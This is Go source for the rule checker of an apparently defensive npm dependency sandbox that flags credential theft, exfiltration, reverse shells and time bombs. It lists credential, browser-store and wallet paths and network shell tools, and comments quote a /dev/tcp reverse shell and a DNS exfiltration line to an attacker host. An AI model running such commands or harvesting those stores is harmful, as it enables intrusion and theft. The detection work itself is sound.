package verdict

import (
	"fmt"
	"net/netip"
	"path"
	"regexp"
	"slices"
	"strconv"
	"strings"

	"github.com/depbox/depbox/baseline"
	"github.com/depbox/depbox/internal/canary"
	"github.com/depbox/depbox/profile"
)

// checker runs the rules over one profile.
type checker struct {
	p       *profile.Profile
	base    *baseline.Baseline
	changes *baseline.Changes
	out     []Finding
	knowns  map[string]known
	// world names the world variant whose behaviour this checker judges
	// ("" for the scan's own world; worlds.go).
	world string
}

// knownFor returns what the baseline accepts for the dependency (cached).
func (c *checker) knownFor(d *profile.Dependency) known {
	if k, ok := c.knowns[d.Path+"\x00"+d.Name]; ok {
		return k
	}
	if c.knowns == nil {
		c.knowns = map[string]known{}
	}
	k := c.known(d)
	c.knowns[d.Path+"\x00"+d.Name] = k
	return k
}

// accepted reports whether the baseline records the behaviour for the
// dependency in phase: the reviewed baseline accepts it, and the rules that
// Rule.BaselineAccepts marks do not report it. Without a baseline nothing is
// accepted.
func (c *checker) accepted(d *profile.Dependency, phase string, it baseline.Item) bool {
	if c.base == nil {
		return false
	}
	_, found := slices.BinarySearchFunc(c.knownFor(d).items[phase], it, baseline.CompareItems)
	return found
}

// acceptedAnyPhase is accepted in any phase.
func (c *checker) acceptedAnyPhase(d *profile.Dependency, it baseline.Item) bool {
	if c.base == nil {
		return false
	}
	for phase := range c.knownFor(d).items {
		if c.accepted(d, phase, it) {
			return true
		}
	}
	return false
}

func (c *checker) run() []Finding {
	c.checkRun()
	for i := range c.p.Dependencies {
		d := &c.p.Dependencies[i]
		c.checkAdvisories(d)
		from := len(c.out)
		for _, phase := range phasesOf(d) {
			b := d.Phases[phase]
			c.checkExfiltration(d, phase, b)
			c.checkBaitFiles(d, phase, b)
			c.checkProcesses(d, phase, b)
			c.checkInstall(d, phase, b)
			c.checkWrites(d, phase, b)
			c.checkHookBypass(d, phase, b)
			c.checkUnexplained(d, phase, b)
			c.checkUnattributed(d, phase, b)
			c.checkPersistence(d, phase, b)
			c.checkTimers(d, phase, b)
			c.checkRemoteCode(d, phase, b)
			c.checkDropper(d, phase, b)
			c.checkFootholds(d, phase, b)
		}
		c.checkSecretEnvNetwork(d)
		c.softenDownload(d, from)
		if c.base != nil {
			c.checkBaseline(d)
		}
	}
	// The function's own code is the user's, and not judged; but a canary
	// leaving from its process, records forged there, and behaviour there
	// that no hook record explains (where hook bypasses land) are judged
	// all the same.
	if app := c.p.App; app != nil {
		for _, phase := range phasesOf(app) {
			b := app.Phases[phase]
			c.checkExfiltration(app, phase, &profile.Behavior{Exfiltration: b.Exfiltration})
			c.checkHookBypass(app, phase, &profile.Behavior{Forged: b.Forged})
			c.checkUnexplained(app, phase, b)
			c.checkUnattributed(app, phase, b)
			c.checkRemoteCode(app, phase, b)
		}
		if c.base != nil {
			c.checkAppBaseline(app)
		}
	}
	slices.SortFunc(c.out, compareFindings)
	return c.out
}

// phasesOf returns the dependency's phases in run order.
func phasesOf(d *profile.Dependency) []string {
	var ps []string
	for p, b := range d.Phases {
		if b != nil {
			ps = append(ps, p)
		}
	}
	slices.SortFunc(ps, func(a, b string) int {
		if x, y := baseline.PhaseIndex(a), baseline.PhaseIndex(b); x != y {
			return x - y
		}
		return strings.Compare(a, b)
	})
	return ps
}

// add records a finding for a dependency (d may be nil for run-wide findings).
func (c *checker) add(ruleID string, sev Severity, d *profile.Dependency, phase, msg string, ev Evidence) {
	r := mustRule(ruleID)
	if sev == 0 {
		sev = r.Severity
	}
	f := Finding{Rule: r.ID, Name: r.Name, Severity: sev, Message: msg, Phase: phase, World: c.world, Evidence: ev}
	if d != nil {
		f.Dependency, f.Version, f.Path = d.Name, d.Version, d.Path
	}
	if f.Evidence.Values == nil {
		f.Evidence.Values = []string{}
	}
	c.out = append(c.out, f)
}

// parts walks a behaviour and its unattributed part.
func parts(b *profile.Behavior, f func(b *profile.Behavior, unattributed bool)) {
	if b == nil {
		return
	}
	f(b, false)
	if b.Unattributed != nil {
		f(b.Unattributed, true)
	}
}

func label(d *profile.Dependency) string {
	l := baseline.Label(d.Name, d.Version, d.Path)
	if d.ClaimedName != "" {
		l += fmt.Sprintf(" (its package.json claims %q)", d.ClaimedName)
	}
	return l
}

func plural(n int, one, many string) string {
	if n == 1 {
		return one
	}
	return many
}

// --- DBX004 analysis-incomplete -------------------------------------------

func (c *checker) checkRun() {
	fatal := 0
	for _, pr := range c.p.Problems {
		if !pr.Fatal {
			continue
		}
		fatal++
		var d *profile.Dependency
		if pr.Dependency != "" {
			d = c.p.Dependency(pr.Dependency)
		}
		msg := fmt.Sprintf("analysis incomplete (%s): %s", pr.Code, pr.Message)
		ev := Evidence{Event: "problem", Values: []string{pr.Code + ": " + pr.Message}}
		if pr.Dependency == "." && c.p.App != nil {
			d = c.p.App
		}
		if d == nil && pr.Dependency != "" {
			// A problem about a path the profile does not list still names it.
			c.add(RuleIncomplete, 0, &profile.Dependency{Path: pr.Dependency}, pr.Phase, msg, ev)
			continue
		}
		c.add(RuleIncomplete, 0, d, pr.Phase, msg, ev)
	}
	if c.p.Incomplete && fatal == 0 {
		c.add(RuleIncomplete, 0, nil, "", "analysis incomplete: the profile is marked incomplete without a recorded reason",
			Evidence{Event: "problem", Values: []string{"incomplete"}})
	}
	for _, m := range c.p.IOCMatches {
		d := c.p.Dependency(m.Dependency)
		if d == nil {
			d = &profile.Dependency{Path: m.Dependency}
		}
		msg := fmt.Sprintf("%s contacted %s, an indicator of compromise listed by %s (%s)", label(d), m.Observed, m.Advisory, m.Package)
		var sev Severity
		if m.Context != "" {
			// Shared infrastructure, or an indicator records about many
			// unrelated packages list: context, not a verdict.
			sev = Low
			msg = fmt.Sprintf("%s contacted %s, which %s lists as an indicator (%s): context, not a verdict", label(d), m.Observed, m.Advisory, m.Context)
		}
		c.add(RuleIOCContact, sev, d, m.Phase, msg,
			Evidence{Event: "ioc", Values: []string{m.Observed + " matches " + m.Indicator}, Advisories: []string{m.Advisory}})
	}
}

// --- DBX002, DBX015 advisories ---------------------------------------------

func (c *checker) checkAdvisories(d *profile.Dependency) {
	for _, a := range d.Advisories {
		val := a.ID
		if a.Summary != "" {
			val += ": " + a.Summary
		}
		ev := Evidence{Event: "advisory", Values: []string{val}, Advisories: []string{a.ID}}
		if a.NameOnly {
			// A bundled copy of unknown version: the record names the
			// package, not necessarily this version. A warning.
			rule, sev, what := RuleVulnerable, Low, "a vulnerability"
			if a.Kind == "malicious" {
				rule, sev, what = RuleMaliciousPackage, Medium, "a malicious release"
			}
			c.add(rule, sev, d, "",
				fmt.Sprintf("%s may have %s (%s): matched by name only, its version is unknown (pass the project's lockfile with --lockfile)", label(d), what, a.ID), ev)
			continue
		}
		if a.Kind == "malicious" {
			c.add(RuleMaliciousPackage, 0, d, "", fmt.Sprintf("%s is a known malicious package (%s)", label(d), a.ID), ev)
			continue
		}
		sev := advisorySeverity(a.Severity)
		c.add(RuleVulnerable, sev, d, "", fmt.Sprintf("%s has a known %s vulnerability (%s)", label(d), sev, a.ID), ev)
	}
}

// --- DBX001 canary-exfiltration ---------------------------------------------

func (c *checker) checkExfiltration(d *profile.Dependency, phase string, b *profile.Behavior) {
	parts(b, func(b *profile.Behavior, un bool) {
		if len(b.Exfiltration) == 0 {
			return
		}
		var vals, canaries []string
		for _, e := range b.Exfiltration {
			enc := e.Encoding
			if e.Partial {
				enc += ", partial"
			}
			vals = append(vals, fmt.Sprintf("%s via %s to %s (%s)", e.Canary, e.Channel, e.Destination, enc))
			if !slices.Contains(canaries, e.Canary) {
				canaries = append(canaries, e.Canary)
			}
		}
		c.add(RuleCanaryExfiltration, 0, d, phase, fmt.Sprintf("%s sent canary %s out in the %s phase", label(d), strings.Join(canaries, ", "), phase),
			Evidence{Event: baseline.KindExfiltration, Values: vals, Unattributed: un})
	})
}

// --- DBX005 bait-file-read --------------------------------------------------

var baitSuffixes = []string{
	"/.aws/credentials", "/.aws/config", "/.npmrc", "/.netrc", "/.git-credentials",
	"/.docker/config.json", "/.kube/config", "/.pgpass", "/.ssh",
	"/etc/shadow", "/etc/gshadow", "/.env",
}

// Infostealers sweep browsers' credential stores (saved passwords, cookies
// and the key that decrypts them) and cryptocurrency wallets: a store's
// file name inside a browser's profile directory, or a wallet path.
var (
	browserDirs   = []string{"/google-chrome/", "/chromium/", "/BraveSoftware/", "/microsoft-edge/", "/opera/", "/vivaldi/", "/.mozilla/firefox/"}
	browserStores = []string{"Login Data", "Login Data For Account", "Cookies", "Local State", "Web Data", "logins.json", "key4.db", "cookies.sqlite"}
	walletPaths   = []string{"/.electrum/wallets/", "/.bitcoin/wallet.dat", "/.ethereum/keystore/", "/exodus.wallet/", "/.config/solana/id.json"}
)

// procSecretRE: another process's environment or memory (the profile
// masks pids as PID and TID).
var procSecretRE = regexp.MustCompile(`^/proc/([0-9]+|PID|self|thread-self)(/task/([0-9]+|TID|self))?/(environ|mem)$`)

// IsBaitPath reports whether p is a credential file depbox treats as bait.
func IsBaitPath(p string) bool {
	p = path.Clean("/" + p)
	for _, s := range baitSuffixes {
		if strings.HasSuffix(p, s) {
			return true
		}
	}
	base := path.Base(p)
	if slices.Contains(browserStores, base) && slices.ContainsFunc(browserDirs, func(d string) bool { return strings.Contains(p, d) }) {
		return true
	}
	if slices.ContainsFunc(walletPaths, func(w string) bool { return strings.Contains(p+"/", w) }) {
		return true
	}
	return strings.Contains(p, "/.ssh/") || strings.HasPrefix(base, ".env.") || procSecretRE.MatchString(p)
}

// lookOnly reports a file access that learns whether a file is there (or
// what a directory holds), not its content: a stat or a directory listing.
func lookOnly(f profile.File) bool {
	return f.Access == profile.AccessStat || f.Access == profile.AccessList
}

func (c *checker) checkBaitFiles(d *profile.Dependency, phase string, b *profile.Behavior) {
	whole := b
	parts(b, func(b *profile.Behavior, un bool) {
		var vals []string
		read := false
		for _, f := range b.Files {
			if f.Access == profile.AccessWrite || f.Access == profile.AccessExec || !IsBaitPath(f.Path) ||
				c.accepted(d, phase, baseline.FileItem(f, un)) {
				continue
			}
			v := f.Path
			switch {
			case lookOnly(f):
				v += " (" + f.Access + " only)"
			case f.Failed:
				v += " (open failed)"
			}
			read = read || !lookOnly(f)
			vals = append(vals, v)
		}
		if len(vals) == 0 {
			return
		}
		if !read {
			// It only asked whether the file is there (pg's pgpass checks
			// ~/.pgpass before it connects): nothing of its content was had.
			c.add(RuleBaitFileRead, Low, d, phase, fmt.Sprintf("%s looked for credential %s %s without reading %s in the %s phase", label(d),
				plural(len(vals), "file", "files"), strings.Join(vals, ", "), plural(len(vals), "it", "them"), phase),
				Evidence{Event: baseline.KindFileRead, Values: vals, Unattributed: un})
			return
		}
		// With no network, DNS or process in the same package and phase,
		// nothing seen could have sent what was read: medium.
		sev, msg := Medium, fmt.Sprintf("%s read credential %s %s in the %s phase, with no network, DNS or process there", label(d), plural(len(vals), "file", "files"), strings.Join(vals, ", "), phase)
		if reachesOut(phase, whole) {
			sev, msg = High, fmt.Sprintf("%s read credential %s %s and reached out (network, DNS or a process) in the %s phase", label(d), plural(len(vals), "file", "files"), strings.Join(vals, ", "), phase)
		}
		c.add(RuleBaitFileRead, sev, d, phase, msg, Evidence{Event: baseline.KindFileRead, Values: vals, Unattributed: un})
	})
}

// --- DBX006 secret-env-and-network ------------------------------------------

var secretEnvRE = regexp.MustCompile(`(?i)(SECRET|TOKEN|PASSWORD|PASSWD|PASSPHRASE|PRIVATE|CREDENTIAL|API_?KEY|ACCESS_KEY|AUTH_KEY|DATABASE_URL|DB_URL|_DSN$|^DSN$|CONNECTION_STRING|COOKIE_KEY|SIGNING_KEY)`)

// IsSecretEnv reports whether an environment variable name marks a secret.
func IsSecretEnv(name string) bool { return secretEnvRE.MatchString(name) }

// exemptPeer reports whether a network peer does not count as "the network"
// for the secret rule: loopback, link-local metadata endpoints and AWS
// service endpoints.
func exemptPeer(e profile.Endpoint) bool {
	if e.Protocol == "unix" || e.Op == "bind" {
		return true
	}
	if h := strings.ToLower(strings.TrimSuffix(e.Host, ".")); h != "" {
		if h == "localhost" || IsAWSEndpoint(h) {
			return true
		}
	}
	return localAddr(e.Address)
}

// IsAWSEndpoint reports whether a host name is an AWS service endpoint
// (*.amazonaws.com, *.amazonaws.com.cn, *.api.aws).
func IsAWSEndpoint(host string) bool {
	h := strings.ToLower(strings.TrimSuffix(host, "."))
	return strings.HasSuffix(h, ".amazonaws.com") || strings.HasSuffix(h, ".amazonaws.com.cn") || strings.HasSuffix(h, ".api.aws")
}

// localAddr reports whether an address never leaves the machine (loopback,
// unspecified) or is the instance metadata service.
func localAddr(a string) bool {
	ip, err := netip.ParseAddr(a)
	if err != nil {
		return false
	}
	return ip.IsLoopback() || ip.IsUnspecified() || a == "169.254.169.254" || a == "169.254.170.2" || a == "fd00:ec2::254"
}

// peer renders an endpoint as recorded: "connect tcp host (address):port".
func peer(e profile.Endpoint) string {
	op := e.Op
	if op == "" {
		op = "connect"
	}
	s := op
	if e.Protocol != "" {
		s += " " + e.Protocol
	}
	switch {
	case e.Protocol == "unix":
		return s + " " + e.Address
	case e.Host != "" && e.Address != "":
		s += " " + e.Host + " (" + e.Address + ")"
	case e.Host != "":
		s += " " + e.Host
	default:
		s += " " + e.Address
	}
	s += ":" + strconv.Itoa(e.Port)
	if e.Result != "" && e.Result != "ok" {
		s += " → " + e.Result
	}
	return s
}

// hostPort renders an endpoint's peer briefly: "host:port" or "address:port".
func hostPort(e profile.Endpoint) string {
	h := e.Host
	if h == "" {
		h = e.Address
	}
	return h + ":" + strconv.Itoa(e.Port)
}

// secretEnvSeverity is DBX006's severity in a phase given the secret
// variables read: medium in the execute phase when none of them is one
// depbox plants a canary in (canary.EnvNames). There depbox itself calls the
// package's exports, and a client library asked to act reads its own
// optional settings (PGPASSWORD, ETHEREAL_API_KEY) and calls its service;
// the sandbox never set them, so nothing was there to send. A planted
// credential read, or any secret read at install, import or invoke, where
// nobody asked, is the rule's high; a canary leaving is DBX001 anyway.
func secretEnvSeverity(phase string, secrets []string) Severity {
	if phase != profile.PhaseExecute {
		return 0
	}
	for _, s := range secrets {
		if slices.Contains(canary.EnvNames, s) {
			return 0
		}
	}
	return Medium
}

func (c *checker) checkSecretEnvNetwork(d *profile.Dependency) {
	var secrets []string
	newSecret := false
	for _, phase := range phasesOf(d) {
		parts(d.Phases[phase], func(b *profile.Behavior, un bool) {
			for _, e := range b.Env {
				if IsSecretEnv(e) && !slices.Contains(secrets, e) {
					secrets = append(secrets, e)
				}
				if IsSecretEnv(e) && !c.acceptedAnyPhase(d, baseline.EnvItem(e, un)) {
					newSecret = true
				}
			}
		})
	}
	if len(secrets) == 0 {
		return
	}
	slices.Sort(secrets)
	for _, phase := range phasesOf(d) {
		var peers, short []string
		unattributed, newPeer := false, false
		parts(d.Phases[phase], func(b *profile.Behavior, un bool) {
			for _, e := range b.Network {
				if !exemptPeer(e) {
					peers = append(peers, peer(e))
					short = append(short, hostPort(e))
					unattributed = unattributed || un
					newPeer = newPeer || !c.accepted(d, phase, baseline.EndpointItem(e, un))
				}
			}
			// A DNS query is network too: a name can carry a secret.
			for _, q := range dnsNetwork(b) {
				if !slices.Contains(short, q.Name) && !hostConnected(b, q.Name) {
					peers = append(peers, "dns "+q.Name)
					short = append(short, q.Name)
					unattributed = unattributed || un
					newPeer = newPeer || !c.accepted(d, phase, baseline.DNSItem(q, un))
				}
			}
		})
		if len(peers) == 0 || !(newSecret || newPeer) {
			continue
		}
		vals := make([]string, 0, len(secrets)+len(peers))
		for _, s := range secrets {
			vals = append(vals, "env "+s)
		}
		for _, p := range peers {
			if !strings.HasPrefix(p, "dns ") {
				p = "network " + p
			}
			vals = append(vals, p)
		}
		c.add(RuleSecretEnvNetwork, secretEnvSeverity(phase, secrets), d, phase,
			fmt.Sprintf("%s read secret %s %s and connected to %s in the %s phase", label(d), plural(len(secrets), "variable", "variables"),
				strings.Join(secrets, ", "), strings.Join(short, ", "), phase),
			Evidence{Event: baseline.KindEnv + "+" + baseline.KindNetwork, Values: vals, Unattributed: unattributed})
	}
}

// --- DBX007 shell-or-downloader, DBX009 install-process ---------------------

var (
	shells      = []string{"sh", "bash", "dash", "zsh", "ash", "ksh", "mksh", "csh", "tcsh", "fish", "busybox"}
	downloaders = []string{"curl", "wget", "nc", "ncat", "netcat", "socat", "ftp", "tftp", "scp", "sftp", "ssh", "telnet", "aria2c"}
	// netTools resolve names or probe hosts: DNS beacons and exfiltration
	// (nslookup $(hostname).attacker.example).
	netTools = []string{"nslookup", "dig", "host", "drill", "ping", "ping6", "traceroute"}
	windows  = []string{"powershell", "powershell.exe", "pwsh", "cmd", "cmd.exe"}
	// interpreters maps an interpreter to the flags that run inline code.
	interpreters = map[string][]string{
		"node": {"-e", "--eval", "-p", "--print", "-pe"}, "nodejs": {"-e", "--eval", "-p", "--print", "-pe"},
		"deno": {"eval"}, "bun": {"-e", "--eval", "-p", "--print"},
		"python": {"-c"}, "python2": {"-c"}, "python3": {"-c"}, "perl": {"-e", "-E"}, "ruby": {"-e"}, "php": {"-r"},
	}
)

// program is the base name of the process's program.
func program(p profile.Process) string {
	name := p.Binary
	if len(p.Argv) > 0 && p.Argv[0] != "" {
		name = p.Argv[0]
	}
	if name == "" {
		name = p.Binary
	}
	return path.Base(name)
}

// scriptRunner reports whether p is how npm runs a lifecycle script: sh -c <script>.
func scriptRunner(p profile.Process) bool {
	prog := program(p)
	return (prog == "sh" || prog == "bash" || prog == "dash") && len(p.Argv) == 3 && p.Argv[1] == "-c"
}

// suspiciousProcess says why a process is a shell, downloader or inline code, or "".
func suspiciousProcess(p profile.Process) string {
	prog := program(p)
	switch {
	case slices.Contains(shells, prog):
		return "shell"
	case slices.Contains(downloaders, prog):
		return "downloader"
	case slices.Contains(netTools, prog):
		return "network tool"
	case slices.Contains(windows, strings.ToLower(prog)):
		return "Windows shell"
	}
	base := strings.TrimRight(prog, "0123456789.")
	if flags, ok := interpreters[prog]; (ok || interpreters[base] != nil) && !interpreterProbe(p) {
		if !ok {
			flags = interpreters[base]
		}
		for _, a := range p.Argv[min(1, len(p.Argv)):] {
			for _, f := range flags {
				if a == f || strings.HasPrefix(a, f+"=") {
					return "inline code"
				}
			}
		}
	}
	return ""
}

// netRedirect reports whether a shell's script opens a connection itself
// through bash's /dev/tcp or /dev/udp (`bash -i >& /dev/tcp/host/port 0>&1`):
// a reverse shell or a beacon, never merely how a lifecycle script is run.
// Its interactive shell would start only once the connection succeeds, so
// the script's shell is all there is to judge.
func netRedirect(p profile.Process) bool {
	return len(p.Argv) == 3 && (strings.Contains(p.Argv[2], "/dev/tcp/") || strings.Contains(p.Argv[2], "/dev/udp/"))
}

func (c *checker) checkProcesses(d *profile.Dependency, phase string, b *profile.Behavior) {
	parts(b, func(b *profile.Behavior, un bool) {
		var vals, kinds []string
		lookups := true
		for _, p := range b.Processes {
			why := suspiciousProcess(p)
			if why == "" || (phase == profile.PhaseInstall && ((scriptRunner(p) && !netRedirect(p)) || ownScript(p))) || c.accepted(d, phase, baseline.ProcessItem(p, un)) {
				continue
			}
			lookups = lookups && lookupShell(p)
			vals = append(vals, processValue(p))
			if !slices.Contains(kinds, why) {
				kinds = append(kinds, why)
			}
		}
		if len(vals) == 0 {
			return
		}
		// A shell that only looks up local state (a machine id, the process
		// list) is medium; any other shell, downloader or inline code high.
		sev := Severity(0)
		if lookups {
			sev = Medium
		}
		c.add(RuleShellDownloader, sev, d, phase, fmt.Sprintf("%s started %s in the %s phase: %s", label(d), kindList(kinds), phase, strings.Join(vals, "; ")),
			Evidence{Event: baseline.KindProcess, Values: vals, Unattributed: un})
	})
}

// kindList names the kinds of process suspiciousProcess found, with their
// articles: "a shell and a program with inline code".
func kindList(kinds []string) string {
	nouns := make([]string, len(kinds))
	for i, k := range kinds {
		if k == "inline code" {
			k = "program with inline code"
		}
		nouns[i] = "a " + k
	}
	if len(nouns) < 2 {
		return strings.Join(nouns, "")
	}
	return strings.Join(nouns[:len(nouns)-1], ", ") + " and " + nouns[len(nouns)-1]
}

// processValue is a process as evidence: its command line, and the result
// when the program could not run (a program that does not exist is judged
// like one that ran).
func processValue(p profile.Process) string {
	v := baseline.JoinArgv(p.Argv)
	if p.Result != "" && p.Result != "ok" {
		v += " (" + p.Result + ")"
	}
	return v
}

// --- DBX008 install-network, DBX009 install-process -------------------------

func (c *checker) checkInstall(d *profile.Dependency, phase string, b *profile.Behavior) {
	if phase != profile.PhaseInstall {
		return
	}
	parts(b, func(b *profile.Behavior, un bool) {
		var net []string
		for _, e := range b.Network {
			if e.Protocol != "unix" && !localAddr(e.Address) && !c.accepted(d, phase, baseline.EndpointItem(e, un)) {
				net = append(net, "network "+peer(e))
			}
		}
		for _, q := range b.DNS {
			if q.Name != "localhost" && !c.accepted(d, phase, baseline.DNSItem(q, un)) {
				net = append(net, "dns "+q.Name)
			}
		}
		if len(net) > 0 {
			c.add(RuleInstallNetwork, 0, d, phase, fmt.Sprintf("%s used the network from a lifecycle script: %s", label(d), strings.Join(net, ", ")),
				Evidence{Event: netEvent(net), Values: net, Unattributed: un})
		}
		var procs []string
		for _, p := range b.Processes {
			if !scriptRunner(p) && !c.accepted(d, phase, baseline.ProcessItem(p, un)) {
				procs = append(procs, processValue(p))
			}
		}
		if len(procs) > 0 {
			c.add(RuleInstallProcess, 0, d, phase, fmt.Sprintf("%s started %d %s from a lifecycle script: %s", label(d), len(procs), plural(len(procs), "process", "processes"), strings.Join(procs, "; ")),
				Evidence{Event: baseline.KindProcess, Values: procs, Unattributed: un})
		}
	})
}

// netEvent is the evidence event of network values prefixed "network " or
// "dns ": network, dns or network+dns.
func netEvent(vals []string) string {
	var n, d bool
	for _, v := range vals {
		n = n || strings.HasPrefix(v, "network ")
		d = d || strings.HasPrefix(v, "dns ")
	}
	switch {
	case n && d:
		return baseline.KindNetwork + "+" + baseline.KindDNS
	case d:
		return baseline.KindDNS
	}
	return baseline.KindNetwork
}

// --- DBX012 write-outside-tmp ------------------------------------------------

var (
	procFdRE = regexp.MustCompile(`^/proc/[0-9]+/fd/`)
	// A thread naming itself (pthread_setname_np) writes its comm file.
	commRE = regexp.MustCompile(`^/proc/(self|thread-self|PID|[0-9]+)(/task/(TID|[0-9]+))?/comm$`)
)

// writable reports whether a write to p is expected in a function sandbox.
func writable(p string) bool {
	p = path.Clean(p)
	switch p {
	case "/tmp", "/dev/null", "/dev/stdout", "/dev/stderr", "/dev/tty", "/dev/zero", "/dev/full", "/dev/ptmx":
		return true
	}
	for _, prefix := range []string{"/tmp/", "/dev/fd/", "/dev/pts/", "/proc/self/fd/", "/proc/thread-self/fd/"} {
		if strings.HasPrefix(p, prefix) {
			return true
		}
	}
	return procFdRE.MatchString(p) || commRE.MatchString(p)
}

func (c *checker) checkWrites(d *profile.Dependency, phase string, b *profile.Behavior) {
	own := "/" + d.Path + "/"
	parts(b, func(b *profile.Behavior, un bool) {
		var wrote, tried []string
		for _, f := range b.Files {
			if f.Access != profile.AccessWrite && f.Access != profile.AccessReadWrite {
				continue
			}
			if writable(f.Path) || (phase == profile.PhaseInstall && d.Path != "" && strings.Contains(f.Path+"/", own)) ||
				c.accepted(d, phase, baseline.FileItem(f, un)) {
				continue
			}
			if f.Failed {
				tried = append(tried, f.Path+" (open failed)")
			} else {
				wrote = append(wrote, f.Path)
			}
		}
		if len(wrote) > 0 {
			c.add(RuleWriteOutsideTmp, 0, d, phase, fmt.Sprintf("%s wrote outside /tmp in the %s phase: %s", label(d), phase, strings.Join(wrote, ", ")),
				Evidence{Event: baseline.KindFileWrite, Values: wrote, Unattributed: un})
		}
		// A write that failed changed nothing: an attempt, reported lower.
		if len(tried) > 0 {
			c.add(RuleWriteOutsideTmp, Medium, d, phase, fmt.Sprintf("%s tried to write outside /tmp in the %s phase (every open failed): %s", label(d), phase, strings.Join(tried, ", ")),
				Evidence{Event: eventWriteAttempt, Values: tried, Unattributed: un})
		}
	})
}

// --- DBX013 hook-bypass -------------------------------------------------------

var bypassCaps = []string{"hook-tamper", "unhooked-child"}

// checkHookBypass: capabilities that go around the hook, and hook records
// the dependency forged (own behaviour only: what went around the hook
// unattributed is checkUnexplained's).
func (c *checker) checkHookBypass(d *profile.Dependency, phase string, b *profile.Behavior) {
	var vals, events []string
	for _, cp := range b.Capabilities {
		if slices.Contains(bypassCaps, cp) {
			vals = append(vals, cp)
			events = appendOnce(events, baseline.KindCapability)
		}
	}
	for _, f := range b.Forged {
		vals = append(vals, forgedValue(f))
		events = appendOnce(events, EventForgery)
	}
	if len(vals) == 0 {
		return
	}
	c.add(RuleHookBypass, 0, d, phase, fmt.Sprintf("%s bypassed depbox's hooks in the %s phase (%s)", label(d), phase, strings.Join(vals, ", ")),
		Evidence{Event: strings.Join(events, "+"), Values: vals})
}

func appendOnce(l []string, s string) []string {
	if slices.Contains(l, s) {
		return l
	}
	return append(l, s)
}

// --- DBX014 unattributed-behaviour --------------------------------------------

func (c *checker) checkUnattributed(d *profile.Dependency, phase string, b *profile.Behavior) {
	rest := routine(b.Unattributed) // the sensitive part is checkUnexplained's
	if rest.Empty() {
		return
	}
	items := baseline.BehaviorItems(&profile.Behavior{Unattributed: rest})
	vals := make([]string, 0, len(items))
	kinds := []string{}
	for _, it := range items {
		if c.accepted(d, phase, it) {
			continue
		}
		vals = append(vals, it.Kind+" "+it.Value)
		if !slices.Contains(kinds, it.Kind) {
			kinds = append(kinds, it.Kind)
		}
	}
	if len(vals) == 0 {
		return
	}
	c.add(RuleUnattributed, 0, d, phase, fmt.Sprintf("%s: %d %s in the %s phase not explained by a hook record%s", label(d), len(vals), plural(len(vals), "behaviour", "behaviours"), phase,
		c.suspects(b.Unattributed.Loaded, phase)),
		Evidence{Event: strings.Join(kinds, "+"), Values: vals, Unattributed: true})
}

// --- DBX017 cross-invocation-state ---------------------------------------------

func (c *checker) checkPersistence(d *profile.Dependency, phase string, b *profile.Behavior) {
	if len(b.Persistence) == 0 {
		return
	}
	var vals []string
	for _, p := range b.Persistence {
		if !c.accepted(d, phase, baseline.PersistenceItem(p, false)) {
			vals = append(vals, fmt.Sprintf("%s (written in invocation %d, read in %d)", p.Path, p.WrittenIn, p.ReadIn))
		}
	}
	if len(vals) == 0 {
		return
	}
	c.add(RuleCrossInvocation, 0, d, phase, fmt.Sprintf("%s kept state between invocations: %s", label(d), strings.Join(vals, ", ")),
		Evidence{Event: baseline.KindPersistence, Values: vals})
}

// --- DBX018 time-bomb -------------------------------------------------------

// timeBombActions are Timer.Did prefixes that make a delayed callback act.
var timeBombActions = []string{"file-write ", "file-read-write ", "file-delete ", "dns ", "network ", "process ", "eval", "native", "binding", "worker"}

func (c *checker) checkTimers(d *profile.Dependency, phase string, b *profile.Behavior) {
	for _, t := range b.Timers {
		if !t.BroughtForward || c.accepted(d, phase, baseline.TimerItem(t)) {
			continue
		}
		var acted []string
		for _, what := range t.Did {
			if slices.ContainsFunc(timeBombActions, func(p string) bool { return strings.HasPrefix(what, p) }) ||
				strings.HasPrefix(what, "env ") && IsSecretEnv(strings.TrimPrefix(what, "env ")) {
				acted = append(acted, what)
			}
		}
		delay := profile.FormatDelay(t.DelayMS)
		switch {
		case t.DelayMS >= 60_000 && len(acted) > 0:
			c.add(RuleTimeBomb, 0, d, phase, fmt.Sprintf("%s scheduled code %s later (brought forward) that then acted: %s", label(d), delay, strings.Join(acted, ", ")),
				Evidence{Event: "timer", Values: append([]string{"timer " + delay}, acted...)})
		case t.DelayMS >= 3_600_000:
			c.add(RuleTimeBomb, Low, d, phase, fmt.Sprintf("%s scheduled code %s later (brought forward); its callback did nothing depbox could see", label(d), delay),
				Evidence{Event: "timer", Values: []string{"timer " + delay}})
		}
	}
}
